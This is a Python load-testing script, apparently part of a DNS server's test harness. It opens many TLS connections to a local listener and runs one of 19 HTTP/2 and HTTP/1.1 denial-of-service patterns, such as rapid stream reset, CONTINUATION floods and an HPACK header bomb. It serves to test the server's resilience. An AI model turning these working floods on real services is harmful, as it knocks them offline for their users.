# SPDX-License-Identifier: MIT
# Copyright the dnslet authors
"""hostile_https.py PORT KIND CONNECTIONS SECONDS: a client that attacks a listener over HTTPS, in
this way, from so many connections at once; one that is ended is opened again. Prints JSON: how many
were opened, how many have been ended, how many bytes have been sent.

A process of its own, so that it does not take turns with whoever measures."""

import contextlib
import itertools
import json
import secrets
import select
import socket
import ssl
import struct
import sys
import time

import hpack

from encrypted_clients import DNS_MESSAGE, as_query
from harness import question

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM = ACK = 1
END_HEADERS, PADDED = 4, 8
INITIAL_WINDOW_SIZE = 4
CANCEL = 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + struct.pack("!BBL", kind, flags, stream) + payload


def settings(**values):
    return frame(SETTINGS, payload=b"".join(struct.pack("!HL", {"window": INITIAL_WINDOW_SIZE}[name], value)
                                            for name, value in values.items()))


def get(name, path=None):
    path = path or "/dns-query?dns=" + as_query(question(name).to_wire())
    return [(":method", "GET"), (":scheme", "https"), (":authority", "dns.test"), (":path", path)]


def post(size=None):
    fields = [(":method", "POST"), (":scheme", "https"), (":authority", "dns.test"), (":path", "/dns-query"),
              ("content-type", DNS_MESSAGE)]
    return fields + ([("content-length", str(size))] if size is not None else [])


def streams():
    return itertools.count(1, 2)


def requests(fields, flags=END_HEADERS | END_STREAM, behind=lambda stream: b""):
    """The same one again and again, without end"""
    encoder = hpack.Encoder()
    first, again = (encoder.encode(fields, huffman=False) for _ in range(2))
    for stream in streams():
        yield frame(HEADERS, flags, stream, first if stream == 1 else again) + behind(stream)


def reset(stream):
    return frame(RST_STREAM, stream=stream, payload=struct.pack("!L", CANCEL))


def rapid_reset_of_known_names():
    yield settings()
    yield from requests(get("known.bench.test"), behind=reset)


def rapid_reset_of_new_names():
    """Each reset comes when the question is already under way."""
    yield settings()
    encoder = hpack.Encoder()
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, encoder.encode(get("known.bench.test")))
    head = encoder.encode(get("known.bench.test")[:3])
    prefix = secrets.token_hex(4)
    for stream in itertools.count(3, 2):
        wire = bytes(5) + b"\1" + bytes(6) + f"\x10{prefix}{stream:08x}\4slow\4test\0\0\1\0\1".encode()
        path = f"/dns-query?dns={as_query(wire)}".encode()
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, head + b"\x04" + bytes([len(path)]) + path)
        yield reset(stream)


def continuations():
    yield settings() + frame(HEADERS, END_STREAM, 1, hpack.Encoder().encode(get("known.bench.test")))
    while True:
        yield frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100)


def empty_continuations():
    yield settings() + frame(HEADERS, END_STREAM, 1, hpack.Encoder().encode(get("known.bench.test")))
    while True:
        yield frame(CONTINUATION, 0, 1)


def many_settings():
    while True:
        yield settings(window=65535)


def pings():
    yield settings()
    while True:
        yield frame(PING, payload=bytes(8))


def priorities():
    yield settings()
    for stream in streams():
        yield frame(PRIORITY, stream=stream, payload=struct.pack("!LB", max(stream - 2, 0), 255))


def expanding_headers():
    """A header of 4,000 bytes, then 16,000 times that one"""
    yield settings()
    encoder = hpack.Encoder()
    for stream in streams():
        start = encoder.encode(get("known.bench.test") + [("x", "y" * 4000)])
        newest = bytes([0x80 | 62])
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, start + newest * (16384 - len(start)))


def small_headers():
    fields = [(f"x{number}", "y") for number in range(1000)]
    yield settings()
    yield from requests(get("known.bench.test") + fields)


def long_header():
    yield settings()
    for stream in streams():
        block = hpack.Encoder().encode(get("known.bench.test") + [("x", "\x01" * 100_000)], huffman=False)
        pieces = [block[at:at + 16384] for at in range(0, len(block), 16384)]
        yield frame(HEADERS, END_STREAM, stream, pieces[0]) + b"".join(
            frame(CONTINUATION, END_HEADERS if piece is pieces[-1] else 0, stream, piece) for piece in pieces[1:])


def long_paths():
    """Heads as long as may be, of requests that never get a body"""
    yield settings()
    yield from requests(get("", "/" + "\x7e" * 16000), END_HEADERS)


def large_answers_that_nobody_reads():
    yield settings(window=0)
    pieces = list(itertools.islice(requests(get("many.test")), 100))
    yield b"".join(pieces)
    yield from itertools.islice(requests(get("many.test")), 100, None)


def half_requests():
    yield settings()
    yield from requests(post(), END_HEADERS, lambda stream: frame(DATA, 0, stream, bytes(1000)))


def padding():
    yield settings() + next(requests(post(), END_HEADERS))
    while True:
        yield frame(DATA, PADDED, 1, b"\xff" + bytes(255))


def refused_streams():
    """Above the limit, and without a word that it is known"""
    yield settings()
    yield from requests(post(), END_HEADERS)


def data_on_closed_streams():
    yield settings() + next(requests(get("known.bench.test")))
    while True:
        yield frame(DATA, 0, 1, bytes(100))


def pipelined_large_answers():
    """HTTP/1.1"""
    (_, path), = get("many.test")[3:]
    while True:
        yield f"GET {path} HTTP/1.1\r\nHost: a\r\n\r\n".encode()


def pipelined_refusals():
    while True:
        yield b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"


def long_head():
    yield b"GET / HTTP/1.1\r\nHost: a\r\n"
    while True:
        yield b"x: y\r\n"


KINDS = {kind.__name__: kind for kind in (
    rapid_reset_of_known_names, rapid_reset_of_new_names, continuations, empty_continuations, many_settings, pings,
    priorities, expanding_headers, small_headers, long_header, long_paths, large_answers_that_nobody_reads, half_requests,
    padding, refused_streams, data_on_closed_streams, pipelined_large_answers, pipelined_refusals, long_head)}
HTTP1 = ("pipelined_large_answers", "pipelined_refusals", "long_head")
READERS = ("rapid_reset_of_known_names", "rapid_reset_of_new_names", "refused_streams")
TOGETHER = 16384


class Attacker:
    """One connection, which sends as fast as it is let"""

    def __init__(self, address, context, kind):
        self.socket = context.wrap_socket(socket.create_connection(address, 10), server_hostname="dns.test")
        self.socket.setblocking(False)
        self.reads = kind in READERS
        self.pieces = KINDS[kind]()
        self.left = b"" if kind in HTTP1 else PREFACE
        self.left += next(self.pieces)

    def step(self):
        """How many bytes it has sent; None: it has been ended."""
        try:
            while len(self.left) < TOGETHER:
                self.left += next(self.pieces)
            with contextlib.suppress(ssl.SSLWantReadError):
                if self.reads and not self.socket.recv(65536):
                    return None
            sent = self.socket.send(self.left[:TOGETHER])
            self.left = self.left[sent:]
            return sent
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
            # Who does not read sees the end by this only.
            poll = select.poll()
            poll.register(self.socket.fileno(), 0)
            return None if poll.poll(0) else 0
        except OSError:
            return None


def main():
    address, kind, count, seconds = ("127.0.0.1", int(sys.argv[1])), sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["http/1.1" if kind in HTTP1 else "h2"])
    end, opened, ended, sent = time.monotonic() + seconds, 0, 0, 0
    attackers = []
    while time.monotonic() < end:
        while len(attackers) < count:
            with contextlib.suppress(OSError):
                attackers.append(Attacker(address, context, kind))
                opened += 1
        moved = 0
        for attacker in list(attackers):
            size = attacker.step()
            if size is None:
                ended += 1
                attackers.remove(attacker)
                attacker.socket.close()
            else:
                moved += size
        sent += moved
        if not moved:
            time.sleep(0.005)
    print(json.dumps({"opened": opened, "ended": ended, "sent": sent}), flush=True)


if __name__ == "__main__":
    main()
